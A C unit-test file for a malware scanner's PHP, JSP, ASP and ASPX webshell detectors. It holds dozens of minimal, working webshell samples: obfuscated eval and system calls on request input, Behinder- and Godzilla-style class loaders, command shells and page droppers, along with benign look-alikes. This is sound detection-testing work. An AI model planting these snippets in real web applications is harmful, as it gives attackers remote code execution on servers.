/*
 * The webshell analyzers, one case per obfuscation technique the issue
 * names (and the few more the corpus needed), each a minimal sample
 * written here; then benign look-alikes that must stay clean, and the
 * caps. Sink names are split across literals ("ev" "al") so that this
 * file itself matches none of the YARA rules.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "scan/layer_result.h"
#include "testutil.h"
#include "util/error.h"

extern const dd_analyzer dd_analyzer_webshell_php, dd_analyzer_webshell_jsp, dd_analyzer_webshell_asp,
	dd_analyzer_webshell_aspx;

static dd_layer_result *run(const dd_analyzer *an, const char *path, const char *code, size_t len)
{
	dd_layer_result *r = NULL;
	dd_scan_options o = DD_SCAN_OPTIONS_INIT;
	if (dd_analyzer_run_on_buffer(&r, an, path, S_IFREG | 0644, code, len, &o))
		fail_msg("%s: %s", path, dd_error_last());
	return r;
}

/* `id` must be among the findings and its title must hold `want` (the
 * sink, input or helper it names); id NULL: no finding at all. */
static void check(const dd_analyzer *an, const char *path, const char *code, const char *id, const char *want, unsigned line)
{
	dd_layer_result *r = run(an, path, code, strlen(code));
	bool found = false;
	for (size_t i = 0; i < r->n_findings; i++) {
		const dd_finding *f = &r->findings[i];
		if (!id)
			fail_msg("%s: unexpected %s (%s)", code, f->id, f->title);
		if (strcmp(f->id, id))
			continue;
		found = true;
		assert_int_equal(f->cls, DD_CLASS_MALWARE);
		assert_true(f->severity == DD_SEV_CRITICAL || f->severity == DD_SEV_HIGH);
		assert_string_equal(f->path, path);
		if (want && !strstr(f->title, want))
			fail_msg("%s: title \"%s\" lacks \"%s\"", code, f->title, want);
		if (line && f->line != line)
			fail_msg("%s: line %u, expected %u", code, f->line, line);
		assert_non_null(strstr(f->description, "score "));
	}
	if (id && !found)
		fail_msg("%s: no %s finding (%zu findings)", code, id, r->n_findings);
	assert_int_equal(r->notes.count, 0);
	dd_layer_result_free(r);
}

#define PHP(code, id, want) check(&dd_analyzer_webshell_php, "var/www/html/x.php", code, id, want, 0)
#define JSP(code, id, want) check(&dd_analyzer_webshell_jsp, "usr/local/tomcat/webapps/ROOT/x.jsp", code, id, want, 0)
#define ASP(code, id, want) check(&dd_analyzer_webshell_asp, "inetpub/wwwroot/x.asp", code, id, want, 0)
#define ASPX(code, id, want) check(&dd_analyzer_webshell_aspx, "inetpub/wwwroot/x.aspx", code, id, want, 0)

static const char CODE[] = "webshell-php-input-to-code";
static const char CMD[] = "webshell-php-input-to-command";
static const char CALL[] = "webshell-php-input-to-callable";

/* ---- PHP: the sink's name built at run time ---- */

static void test_php_strrev(void **state)
{
	(void)state;
	PHP("<?php $f = strrev('tres'.'sa'); $f($_POST['x']); ?>", CODE, "assert()");
	PHP("<?php $g = strrev('metsys'); $g($_GET['c']);", CMD, "system()");
}

static void test_php_rot13(void **state)
{
	(void)state;
	PHP("<?php $a = str_rot13('nffreg'); @$a($_REQUEST['p']); ?>", CODE, "assert()");
}

static void test_php_str_replace_junk(void **state)
{
	(void)state;
	PHP("<?php $k = str_replace('#', '', 'a#s#s#e#r#t'); $k($_POST['z']); ?>", CODE, "assert()");
	PHP("<?php $k = str_replace(\"|\", \"\", \"s|y|s|t|e|m\"); $k($_COOKIE['z']); ?>", CMD, "system()");
}

static void test_php_base64(void **state)
{
	(void)state;
	PHP("<?php $f = base64_decode('YXNzZXJ0'); $f($_POST['x']); ?>", CODE, "assert()");
	/* eval of a decoded constant: the decoded code is analysed again */
	PHP("<?php ev" "al(base64_decode('ZXZhbCgkX1BPU1RbInoiXSk7')); ?>", CODE, "$_POST");
}

static void test_php_gzinflate_base64(void **state)
{
	(void)state;
	PHP("<?php ev" "al(gzinflate(base64_decode('Sy1LzNFQiQ9yDQx1DQ6JVipQitW0BgA='))); ?>", CODE, "$_REQUEST");
}

static void test_php_chr_chain(void **state)
{
	(void)state;
	PHP("<?php $f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $f($_POST[1]); ?>", CODE, "assert()");
	/* chr held in a variable, as s1.php does */
	PHP("<?php $c = chr(99).chr(104).chr(114); $s = $c(115).$c(121).$c(115).$c(116).$c(101).$c(109); $s($_GET['q']);", CMD, "system()");
}

static void test_php_concat(void **state)
{
	(void)state;
	PHP("<?php $x = 'as' . 'se' . 'rt'; $x($_GET['e']); ?>", CODE, "assert()");
	PHP("<?php $x = 'sys'; $x .= 'tem'; $x($_GET['e']); ?>", CMD, "system()");
}

static void test_php_hex_escapes(void **state)
{
	(void)state;
	PHP("<?php $x = \"\\x61\\x73\\x73\\x65\\x72\\x74\"; $x($_POST['h']); ?>", CODE, "assert()");
	PHP("<?php $x = \"\\163\\171\\163\\164\\145\\155\"; $x($_POST['h']); ?>", CMD, "system()");
}

static void test_php_variable_function(void **state)
{
	(void)state;
	PHP("<?php $_GET['f']($_POST['a']); ?>", CALL, "$_GET");
	PHP("<?php $f = $_REQUEST['fn']; $f($_REQUEST['arg']); ?>", CALL, "$_REQUEST");
	PHP("<?php ${'_PO'.'ST'}['f'](1); ?>", CALL, "$_POST");
}

static void test_php_preg_replace_e(void **state)
{
	(void)state;
	PHP("<?php preg_replace('/.*/e', $_POST['c'], ''); ?>", CODE, "/e");
	PHP("<?php preg_replace($_GET['p'], $_GET['r'], 'x'); ?>", CODE, "pattern");
	/* a pattern whose end is fixed: the request cannot add /e */
	PHP("<?php preg_replace('/' . $_GET['find'] . '/u', 'x', $s); ?>", NULL, NULL);
}

static void test_php_assert_create_function(void **state)
{
	(void)state;
	PHP("<?php @ass" "ert($_POST['a']); ?>", CODE, "assert()");
	PHP("<?php $f = create_function('', $_POST['b']); $f(); ?>", CODE, "create_function()");
	/* team4o4's loader: the function create_function makes evals its parameter */
	PHP("<?php $f = strrev('noitcnuf_etaerc'); $g = $f('$x', 'ev' . 'al($x);'); $g($_POST['b']); ?>", CODE, "create_function");
}

static void test_php_callbacks(void **state)
{
	(void)state;
	PHP("<?php call_user_func('ass' . 'ert', $_POST['x']); ?>", CODE, "via call_user_func");
	PHP("<?php call_user_func_array($_GET['f'], array($_GET['a'])); ?>", CALL, "call_user_func_array()");
	PHP("<?php array_map($_GET['f'], array($_GET['a'])); ?>", CALL, "array_map()");
	PHP("<?php array_map('sys' . 'tem', array($_GET['a'])); ?>", CMD, "system()");
	PHP("<?php $a = array($_POST['c'], 1); usort($a, 'ass' . 'ert'); ?>", CODE, "assert() via usort");   /* assert($a, $b) runs $a */
	PHP("<?php $a = array($_POST['c'], 1); usort($a, $_GET['cb']); ?>", CALL, "usort()");
	PHP("<?php array_filter(array($_POST['c']), $_REQUEST['cb']); ?>", CALL, "array_filter()");
}

static void test_php_helper_function(void **state)
{
	(void)state;
	PHP("<?php function run($code) { ev" "al($code); } run($_POST['x']); ?>", CODE, "through run");
	PHP("<?php function g($a, $b) { return $b; } $c = g(1, $_GET['c']); system($c); ?>", CMD, "$_GET");
	/* defined after its use */
	PHP("<?php x1($_COOKIE['k']); function x1($p) { $q = 'cmd: ' . $p; passthru($q); } ?>", CMD, "through x1");
}

static void test_php_commands_and_more(void **state)
{
	(void)state;
	PHP("<?php echo `{$_GET['c']}`; ?>", CMD, "shell_exec()");
	PHP("<?php echo `$_GET[c]`; ?>", CMD, "shell_exec()");
	PHP("<?php include($_GET['page']); ?>", "webshell-php-input-to-include", "include()");
	PHP("<?php ev" "al(file_get_contents('php://input')); ?>", CODE, "php://input");
	PHP("<?php $h = getallheaders(); ev" "al($h['X-Code']); ?>", CODE, "getallheaders");
	PHP("<?php system($_SERVER['HTTP_X_CMD']); ?>", CMD, "HTTP_X_CMD");
	PHP("<?php @extract($_REQUEST); @die($ctime($atime)); ?>", CALL, "extract");
	PHP("<?php foreach ($_POST as $k => $v) { ev" "al($v); } ?>", CODE, "$_POST");
	PHP("<?php define('F', 'ass' . 'ert'); $f = F; $f($_POST['d']); ?>", CODE, "assert()");
	PHP("<?php $s = <<<EOT\n{$_POST['c']}\nEOT;\nexec($s); ?>", CMD, "exec()");
	/* request data written into a server page of a fixed name */
	PHP("<?php file_put_contents('cache.php', $_POST['c']); ?>", "webshell-php-input-to-file", "into a server page");
	PHP("<?php $h = fopen(dirname(__FILE__) . '/x.php', 'w'); fwrite($h, $_POST['c']); ?>", "webshell-php-input-to-file", "fwrite()");
	PHP("<?php file_put_contents('notes.txt', $_POST['c']); ?>", NULL, NULL);
}

/* ---- benign look-alikes: what real applications do ---- */

/* ---- PHP: techniques the BlackArch corpus needed ---- */

static void test_php_bareword_function_name(void **state)
{
	(void)state;
	/* an undefined constant is its own name as a string (PHP < 8):
	 * `$f = passthru;` names the sink without a quote */
	PHP("<?php $function=pass" "thru; echo $function($_POST['cmd']); ?>", CMD, "passthru()");
	/* a bare word that names no sink stays inert */
	PHP("<?php $mode = E_ALL; error_reporting($mode); $mode($_POST['x']); ?>", NULL, NULL);
}

static void test_php_register_globals(void **state)
{
	(void)state;
	/* extract() of the old long arrays, under a guard */
	/* a page-level variable read before the page sets it */
	PHP("<?php if ($command) sys" "tem($command); ?>", CMD, "register_globals");
	PHP("<?php $h = fopen(\"$dizin/$ad\", 'w'); fwrite($h, $icerik); fclose($h); ?>", "webshell-php-input-to-file",
	    "to a request-chosen path");
	/* ... but not a template's variables reaching an include or a callback, nor a function's own */
	PHP("<?php include $template; $cb($args); ?>", NULL, NULL);
	PHP("<?php function run($c) { return sys" "tem($c); } ?>", NULL, NULL);
	PHP("<?php require_once 'CommandLineInc.php'; passthru('check ' . $args[0]); ?>", NULL, NULL);
	PHP("<?php class S { static function cat($args) { $o = fopen($args[1], 'w'); fwrite($o, $args[2]); } } ?>", NULL, NULL);
	PHP("<?php if (!empty($HTTP_POST_VARS)) extract($HTTP_POST_VARS);\n"
	    "if (!empty($command)) { $command .= ' 2>&1'; sys" "tem($command); } ?>", CMD, "system()");
}

static void test_php_upload_to_script(void **state)
{
	(void)state;
	/* an upload saved under a fixed script name drops a new page */
	PHP("<?php move_uploaded_file($userfile, \"entrika.php\"); ?>", "webshell-php-input-to-file", "move_uploaded_file()");
	PHP("<?php move_uploaded_file($_FILES['f']['tmp_name'], './x.phtml'); ?>", "webshell-php-input-to-file", NULL);
	/* uploads kept as data are what applications do */
	PHP("<?php move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/avatar.png'); ?>", NULL, NULL);
}

static void test_php_global_set_later(void **state)
{
	(void)state;
	/* a function's `global` is whatever the page holds when it is called,
	 * which may be set by page code after the function's definition */
	PHP("<?php function dump() { global $u; passthru(\"mysqldump --user=$u\"); }\n"
	    "$u = $_COOKIE['u']; dump(); ?>", CMD, "passthru()");
	/* list() = each(): both names carry the array's taint */
	PHP("<?php function dump() { global $u; passthru(\"mysqldump --user=$u\"); }\n"
	    "while (list($k, $v) = each($HTTP_COOKIE_VARS)) { if ($k == 'u') $u = $v; }\n"
	    "dump(); ?>", CMD, "passthru()");
	/* without `global` a function's variable is its own */
	PHP("<?php function dump() { $u = 'root'; passthru(\"mysqldump --user=$u\"); }\n"
	    "$u = $_COOKIE['u']; dump(); ?>", NULL, NULL);
	PHP("<?php function f() { global $db; $db->query('x'); system('uptime'); }\n"
	    "$db = $_GET['x']; f(); ?>", NULL, NULL);
}

static void test_php_guarded_reassignment(void **state)
{
	(void)state;
	/* a constant set only under `if`/`else` does not wash out the input the
	 * variable held (hxpshell's `if (...) $file = ...;` in an earlier case) */
	PHP("<?php $f = $_REQUEST['file']; if ($_POST['rel']) $f = 'x';\n"
	    "$h = fopen($f, 'w'); fwrite($h, $_POST['content']); ?>", "webshell-php-input-to-file", "fwrite()");
	PHP("<?php $c = $_GET['c']; if (!$c) $c = 'id'; else $c = 'uptime'; system($c); ?>", CMD, "system()");
	/* unconditional reassignment still wins, and so does a guarded one that
	 * sets input (it is input either way) */
	PHP("<?php $c = $_GET['c']; $c = 'id'; system($c); ?>", NULL, NULL);
	PHP("<?php $c = 'id'; if ($_GET['x']) $c = 'uptime'; system($c); ?>", NULL, NULL);
	/* register_globals: a name the page read from the query string and then
	 * blanks inside a braced branch (MyShell's `cd` handling) is still
	 * input on the other path; set before any read, it is not */
	PHP("<?php $p = strpos($command, 'cd '); if ($p !== false) { $old = $command; $command = ''; }\n"
	    "if ($command) { system($command); } ?>", CMD, "system()");
	PHP("<?php if ($x) { $command = 'ls'; } else { $command = 'id'; } system($command); ?>", NULL, NULL);
}

static void test_php_benign(void **state)
{
	(void)state;
	PHP("<?php include WP_PLUGIN_DIR . '/' . $_GET['plugin']; ?>", NULL, NULL);   /* a fixed directory */
	PHP("<?php exec('convert ' . escapeshellarg($_POST['f'])); ?>", NULL, NULL);
	PHP("<?php $n = (int) $_GET['n']; system('seq ' . $n); ?>", NULL, NULL);
	PHP("<?php $c = $router->get($_GET['route']); $c($request); ?>", NULL, NULL);   /* a registry lookup */
	PHP("<?php $cb = 'is_' . $type; call_user_func($cb); ?>", NULL, NULL);
	PHP("<?php ev" "al('return 1 + 2;'); ?>", NULL, NULL);
	PHP("<?php // ev" "al($_POST['x']);\n/* system($_GET['c']) */ echo 'the `$_POST[\"x\"]` parameter'; ?>", NULL, NULL);
	PHP("<html><p>ev" "al($_POST['x']) outside PHP tags is text</p></html>", NULL, NULL);
	PHP("<?php $x = $_GET['a']; $x = 5; system($x); ?>", NULL, NULL);   /* reassigned */
	PHP("<?php parse_str($_SERVER['QUERY_STRING'], $out); $f($out); ?>", NULL, NULL);
}

/* ---- JSP ---- */

static void test_jsp(void **state)
{
	(void)state;
	const char *const CMDJ = "webshell-jsp-input-to-command";
	const char *const CL = "webshell-jsp-input-to-classloader";
	JSP("<% Process p = Runtime.getRuntime().ex" "ec(request.getParameter(\"cmd\")); %>", CMDJ, "exec()");
	JSP("<% String c = request.getParameter(\"c\"); new ProcessBuilder(new String[]{\"sh\", \"-c\", c}).start(); %>", CMDJ,
	    "processbuilder()");
	JSP("<% ProcessBuilder pb = new ProcessBuilder(); pb.command(\"sh\", \"-c\", request.getHeader(\"X-C\")); %>", CMDJ, "command()");
	/* Behinder: a class loader defining the AES-decrypted, base64 request body */
	JSP("<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}"
	    "public Class g(byte []b){return super.define" "Class(b,0,b.length);}}%><%if (request.getMethod().equals(\"POST\")){"
	    "String k=\"e45e329feb5d925b\";session.putValue(\"u\",k);Cipher c=Cipher.getInstance(\"AES\");c.init(2,new SecretKeySpec(k.getBytes(),\"AES\"));"
	    "new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine())))"
	    ".newInstance().equals(pageContext);}%>", CL, "through g");
	/* Godzilla: defineClass reached by reflection */
	JSP("<%! Class define(byte[] b) throws Exception { java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod(\"define\" "
	    "+ \"Class\", byte[].class, int.class, int.class); m.setAccessible(true); return (Class) m.invoke(Thread.currentThread()"
	    ".getContextClassLoader(), b, 0, b.length); } %><% byte[] data = java.util.Base64.getDecoder().decode(request.getParameter(\"pass\"));"
	    " define(data).newInstance(); %>", CL, "through define");
	JSP("<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName(\"js\"); e.ev" "al(request.getParameter(\"s\")); %>",
	    "webshell-jsp-input-to-code", "eval()");
	/* the sink's name from a reversed constant */
	JSP("<% String n = new StringBuilder(\"cexe\").reverse().toString(); Runtime r = Runtime.getRuntime();"
	    " r.getClass().getMethod(n, String.class).invoke(r, request.getParameter(\"c\")); %>", CMDJ, "exec()");
	/* benign: Tomcat-example-like pages */
	JSP("<html><% String n = request.getParameter(\"name\"); out.println(\"Hello \" + n); %></html>", NULL, NULL);
	JSP("<% Runtime.getRuntime().ex" "ec(\"/usr/bin/uptime\"); %>", NULL, NULL);
	/* a page's own exec(db, sql) (a database class's method, called on
	 * this) is no Runtime.exec; the page-level exec(out, cmd, cs) with its
	 * ProcessBuilder is, through the call of matching arity */
	JSP("<%! class Db { void exec(String db, String sql) { } void show(String db, String t) { this.exec(db, \"SELECT * FROM \" + t); } }\n"
	    "void exec(JspWriter o, String cmd, String cs) throws Exception { new ProcessBuilder(cmd.split(\" \")).start(); } %>"
	    "<% new Db().show(\"d\", request.getParameter(\"t\")); exec(out, request.getParameter(\"c\"), \"utf-8\"); %>",
	    "webshell-jsp-input-to-command", "processbuilder() through exec");
	JSP("<%! class Db { void exec(String db, String sql) { } void show(String db, String t) { this.exec(db, \"SELECT * FROM \" + t); } }\n"
	    "%><% new Db().show(\"d\", request.getParameter(\"t\")); %>", NULL, NULL);
	/* Java casts keep the operand's value: (String) request.getParameter
	 * (JspWebshell 1.2); a numeric cast makes a number */
	JSP("<%! public String exeCmd(String cmd) throws Exception { Runtime r = Runtime.getRuntime(); r.exec(cmd); return \"\"; } %>"
	    "<% String cmd = (String)request.getParameter(\"command\"); String out2 = exeCmd(cmd); %>",
	    "webshell-jsp-input-to-command", "through execmd");
	JSP("<% Object o = request.getParameter(\"c\"); Runtime.getRuntime().exec((java.lang.String) o); %>",
	    "webshell-jsp-input-to-command", NULL);
	JSP("<% int n = (int) Integer.parseInt(request.getParameter(\"n\")); Runtime.getRuntime().exec(\"ls \" + (int) n); %>", NULL, NULL);
}

/* A java.util.logging FileHandler at a request-chosen name under the web
 * root, fed request data: the log file is a page the client names and
 * writes (xl7dev's logger JSP). Applications name logs in configuration. */
static void test_jsp_log_file(void **state)
{
	(void)state;
	const char *const F = "webshell-jsp-input-to-file";
	JSP("<%java.util.logging.Logger l=java.util.logging.Logger.getLogger(\"t\");java.util.logging.FileHandler h=new "
	    "java.util.logging.FileHandler(pageContext.getServletContext().getRealPath(\"/\")+request.getParameter(\"f\"),true);"
	    "l.addHandler(h);l.info(request.getParameter(\"t\"));%>", F, "filehandler()");
	/* benign: a log named by the application; a request-named file under a fixed directory */
	JSP("<% java.util.logging.FileHandler h = new java.util.logging.FileHandler(\"/var/log/app/app.log\", true); %>", NULL, NULL);
	JSP("<% java.io.FileOutputStream o = new java.io.FileOutputStream(application.getRealPath(\"/upload\") + \"/\" + "
	    "request.getParameter(\"name\")); %>", NULL, NULL);
}

/* ---- ASP (VBScript) ---- */

static void test_asp(void **state)
{
	(void)state;
	const char *const C = "webshell-asp-input-to-code";
	ASP("<%ev" "al request(\"pass\")%>", C, "eval()");
	ASP("<% Execute Request.Form(\"x\") %>", C, "Request.form");
	ASP("<% ExecuteGlobal(Request.QueryString(\"c\")) %>", C, "executeglobal()");
	ASP("<% s = Chr(101) & Chr(120) & Chr(101) & Chr(99) & Chr(117) & Chr(116) & Chr(101)\nx = Request(\"z\")\nEval(\"Exe\" & \"cute(x)\") %>", C, NULL);
	ASP("<% f = StrReverse(\"etucexe\")\nSet sh = Server.CreateObject(\"WScript.Shell\")\nsh.Run \"cmd /c \" & Request(\"c\") %>",
	    "webshell-asp-input-to-command", "run()");
	ASP("<%\nFunction R(c)\n  Set o = CreateObject(\"WScript.Shell\")\n  Set x = o.exec(c)\n  R = x.StdOut.ReadAll\nEnd Function\n"
	    "Response.Write R(\"cmd /c \" & Request(\"q\"))\n%>", "webshell-asp-input-to-command", "through r");
	ASP("<% ' Execute Request(\"x\")\nResponse.Write Request(\"name\") %>", NULL, NULL);
	ASP("<% Set f = Server.CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath(\"a.asp\"))\nf.Write Request(\"t\") %>",
	    "webshell-asp-input-to-file", "into a server page");
	/* a method named Execute is not VBScript's: ADO runs SQL, RegExp matches */
	ASP("<% Set conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open \"dsn\"\n"
	    "Set rs = conn.Exe" "cute(\"SELECT * FROM goods WHERE id = \" & Request(\"id\"))\n"
	    "Set re = New RegExp\nre.Pattern = \"a+\"\nSet m = re.Exe" "cute(Request.Form(\"q\")) %>", NULL, NULL);
}

/* ---- ASPX (C#, JScript.NET) ---- */

static void test_aspx(void **state)
{
	(void)state;
	ASPX("<%@ Page Language=\"Jscript\"%><%Response.Write(ev" "al(Request.Item[\"z\"],\"unsafe\"));%>", "webshell-aspx-input-to-code",
	     "eval()");
	ASPX("<%@ Page Language=\"C#\" %><% System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength))"
	     ".CreateInstance(\"U\").Equals(this); %>", "webshell-aspx-input-to-classloader", "assembly.load");
	ASPX("<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs e) {"
	     " System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request.Form[\"c\"]); }</script>", "webshell-aspx-input-to-command",
	     "process.start");
	ASPX("<%@ Page Language=\"C#\" %><% var p = new System.Diagnostics.ProcessStartInfo(); p.FileName = \"cmd.exe\";"
	     " p.Arguments = \"/c \" + Request[\"c\"]; System.Diagnostics.Process.Start(p); %>", "webshell-aspx-input-to-command", "arguments");
	/* base64 of the assembly name: Convert.FromBase64String folds */
	ASPX("<%@ Page Language=\"Jscript\"%><% var s = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(\"ZXZhbA==\"));"
	     " Response.Write(Request.Form[\"x\"]); %>", NULL, NULL);
	ASPX("<%@ Page Language=\"C#\" %><% Response.Write(Server.HtmlEncode(Request.QueryString[\"q\"])); %>", NULL, NULL);
}

/* An ASP.NET handler writing a classic ASP page out of a constant (a
 * dropper): the page it drops is read as VBScript, the language it runs
 * in (xl7dev's write_asp_file.ashx). */
static void test_aspx_drops_asp_page(void **state)
{
	(void)state;
	const char *const ASHX_HEAD = "<%@ WebHandler Language=\"C#\" class=\"Handler\" %>\nusing System;\nusing System.Web;\nusing System.IO;\n"
				      "public class Handler : IHttpHandler {\n public void ProcessRequest (HttpContext context) {\n";
	char page[1024];
	snprintf(page, sizeof(page), "%s  StreamWriter f = File.CreateText(context.Server.MapPath(\"root.asp\"));\n"
		 "  f.Write(\"<%%response.clear:exe" "cute request(\\\"root\\\"):response.End%%>\");\n  f.Close();\n }\n}\n", ASHX_HEAD);
	check(&dd_analyzer_webshell_aspx, "inetpub/wwwroot/w.ashx", page, "webshell-aspx-input-to-code", "execute()", 0);
	/* benign: a handler writing a fixed page with no request input in it */
	snprintf(page, sizeof(page), "%s  StreamWriter f = File.CreateText(context.Server.MapPath(\"hello.asp\"));\n"
		 "  f.Write(\"<%%Response.Write \\\"hello\\\"%%>\");\n  f.Close();\n }\n}\n", ASHX_HEAD);
	check(&dd_analyzer_webshell_aspx, "inetpub/wwwroot/w.ashx", page, NULL, NULL, 0);
}

/* ---- caps ---- */

/* A loader: a page function (a cipher loop the evaluator does not run)
 * turns a long constant into code that is executed, directly or parked in
 * Session() first (xl7dev's 小红帽.asp); the same in PHP. Short constants
 * (a template name) and long ones only printed are no finding. */
static void test_runs_decoded_code(void **state)
{
	(void)state;
	char blob[700];
	for (size_t k = 0; k < sizeof(blob) - 1; k++)
		blob[k] = "Xq7Zp2Lw9Ks4Vb1Nm8Rt3Yh6Gd5Fc0Ja"[k % 32];
	blob[sizeof(blob) - 1] = 0;
	const char *const D = "webshell-asp-runs-decoded-code";
	char page[4096];
	snprintf(page, sizeof(page), "<%%\nOn Error Resume Next\nyka=\"%s\"\n"
		 "if session(\"yka\")=\"\" then:session(\"yka\")=mkc(yka):end if:yka=session(\"yka\"):Exe" "cute yka\n"
		 "function mkc(blr):dim ghr,tag:for i=1 to len(blr):tag=mid(blr,i,1):ghr=tag&ghr:Next:mkc=ghr:end function\n%%>",
		 blob);
	ASP(page, D, "a 699-character constant");
	snprintf(page, sizeof(page), "<%% Exe" "cuteGlobal(Unpack(\"%s\"))\nFunction Unpack(s)\nFor i = 1 To Len(s) Step 2\n"
		 "Unpack = Unpack & Chr(CLng(\"&H\" & Mid(s, i, 2)))\nNext\nEnd Function\n%%>", blob);
	ASP(page, D, "executeglobal()");
	snprintf(page, sizeof(page), "<?php function d($s) { $o = ''; for ($i = 0; $i < strlen($s); $i++) $o .= chr(ord($s[$i]) ^ 7);"
		 " return $o; }\nev" "al(d('%s')); ?>", blob);
	PHP(page, "webshell-php-runs-decoded-code", "eval()");
	/* a loader handed the blob: create_function('$x', 'ev' 'al(...$x...)') or a
	 * page function whose parameter reaches eval, called on a long constant
	 * with no white space (team4o4obfuscated.php); a template with spaces
	 * rendered through eval is no loader */
	snprintf(page, sizeof(page), "<?php $f = strrev('noitcnuf_etaerc'); $g = $f('$x', 'ev' . 'al(\"?>\".gzinflate(base64_decode($x)));');"
		 " $g('%s'); ?>", blob);
	PHP(page, "webshell-php-runs-decoded-code", "create_function");
	snprintf(page, sizeof(page), "<?php function run($x) { ev" "al(gzinflate(base64_decode($x))); } run('%s'); ?>", blob);
	PHP(page, "webshell-php-runs-decoded-code", "through run");
	char tpl[1200];
	snprintf(tpl, sizeof(tpl), "%s", "<div class=\"item\"> <?php echo $title; ?> </div>\n");
	while (strlen(tpl) < 700)
		strcat(tpl, "<p> <?php echo $row; ?> </p>\n");
	snprintf(page, sizeof(page), "<?php function render($t) { ev" "al('?>' . $t); } render('%s'); ?>", tpl);
	PHP(page, NULL, NULL);
	/* no finding: a short name, a long text only printed */
	ASP("<% Exe" "cute(LoadPart(\"header\"))\nFunction LoadPart(n)\nLoadPart = \"Response.Write 1\"\nEnd Function\n%>", NULL, NULL);
	snprintf(page, sizeof(page), "<%% Response.Write Fmt(\"%s\")\nFunction Fmt(s)\nFmt = Server.HTMLEncode(s)\nEnd Function\n%%>",
		 blob);
	ASP(page, NULL, NULL);
}

/* NUL bytes in server code are skipped, not an endless run of empty
 * operator tokens up to the cap (found by fuzz/webshell_source: a 167-byte
 * JSP took 0.35 s and was analysed only in part): the page is analysed
 * whole, without a note, and the sink after the NULs is found. */
static void test_nul_bytes_in_code(void **state)
{
	(void)state;
	static const char jsp[] = "<%try { int n = 0;\0\0\0 Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); }"
				  " catch (Exception e) { } %>";
	dd_layer_result *r = run(&dd_analyzer_webshell_jsp, "usr/local/tomcat/webapps/ROOT/n.jsp", jsp, sizeof(jsp) - 1);
	assert_int_equal(r->notes.count, 0);
	assert_false(r->incomplete);
	bool found = false;
	for (size_t i = 0; i < r->n_findings; i++)
		found = found || !strcmp(r->findings[i].id, "webshell-jsp-input-to-command");
	assert_true(found);
	dd_layer_result_free(r);
	static const char php[] = "<?php $a = $_POST['x'];\0\0 ev" "al($a); ?>";
	r = run(&dd_analyzer_webshell_php, "var/www/n.php", php, sizeof(php) - 1);
	assert_int_equal(r->notes.count, 0);
	assert_true(r->n_findings > 0);
	dd_layer_result_free(r);
}

static void test_caps(void **state)
{
	(void)state;
	/* expression nesting past the cap: a note, not silence, and no crash */
	size_t n = 5000;
	char *deep = malloc(n * 2 + 64);
	assert_non_null(deep);
	strcpy(deep, "<?php $x = ");
	size_t k = strlen(deep);
	for (size_t i = 0; i < n; i++)
		deep[k++] = '(';
	deep[k++] = '1';
	for (size_t i = 0; i < n; i++)
		deep[k++] = ')';
	strcpy(deep + k, "; ?>");
	dd_layer_result *r = run(&dd_analyzer_webshell_php, "var/www/deep.php", deep, strlen(deep));
	assert_int_equal(r->notes.count, 1);
	assert_non_null(strstr(r->notes.items[0], "stopped early"));
	assert_true(r->incomplete);
	dd_layer_result_free(r);
	free(deep);
	/* decoded code nested 30 levels is analysed (the finding inside the
	 * thirtieth); past the 64 pieces one file may decode, a note */
	for (int levels = 30; levels <= 30; levels++) {
		char *code = strdup("ev" "al($_POST[\"z\"]);");
		for (int l = 0; l < levels; l++) {
			size_t len = strlen(code);
			char *b64 = malloc(4 * ((len + 2) / 3) + 1);
			assert_non_null(b64);
			static const char A[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
			size_t o = 0;
			for (size_t j = 0; j < len; j += 3) {
				unsigned v = (unsigned char)code[j] << 16 | (j + 1 < len ? (unsigned char)code[j + 1] << 8 : 0) |
					     (j + 2 < len ? (unsigned char)code[j + 2] : 0);
				b64[o++] = A[v >> 18 & 63];
				b64[o++] = A[v >> 12 & 63];
				b64[o++] = j + 1 < len ? A[v >> 6 & 63] : '=';
				b64[o++] = j + 2 < len ? A[v & 63] : '=';
			}
			b64[o] = 0;
			free(code);
			assert_true(asprintf(&code, "ev" "al(base64_decode('%s'));", b64) > 0);
			free(b64);
		}
		char *page = NULL;
		assert_true(asprintf(&page, "<?php %s ?>", code) > 0);
		r = run(&dd_analyzer_webshell_php, "var/www/nest.php", page, strlen(page));
		assert_int_equal(r->notes.count, 0);
		assert_true(r->n_findings > 0);
		dd_layer_result_free(r);
		free(page);
		free(code);
	}
	{
		char *many = malloc(70 * 48 + 16);
		assert_non_null(many);
		strcpy(many, "<?php ");
		for (int piece = 0; piece < 70; piece++)
			strcat(many, "ev" "al(base64_decode('ZWNobyAxOw=='));\n");   /* echo 1; */
		strcat(many, "?>");
		r = run(&dd_analyzer_webshell_php, "var/www/many.php", many, strlen(many));
		assert_int_equal(r->notes.count, 1);
		assert_non_null(strstr(r->notes.items[0], "budget"));
		dd_layer_result_free(r);
		free(many);
	}
	/* a file over the size cap is a note that marks the scan incomplete */
	assert_false(dd_analyzer_webshell_php.wants("var/www/a.txt", S_IFREG | 0644, 10));
	assert_true(dd_analyzer_webshell_php.wants("var/www/a.PHP", S_IFREG | 0644, 10));
	assert_true(dd_analyzer_webshell_php.note_oversize);
	assert_true(dd_analyzer_webshell_php.max_size > 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_php_strrev),
		cmocka_unit_test(test_php_rot13),
		cmocka_unit_test(test_php_str_replace_junk),
		cmocka_unit_test(test_php_base64),
		cmocka_unit_test(test_php_gzinflate_base64),
		cmocka_unit_test(test_php_chr_chain),
		cmocka_unit_test(test_php_concat),
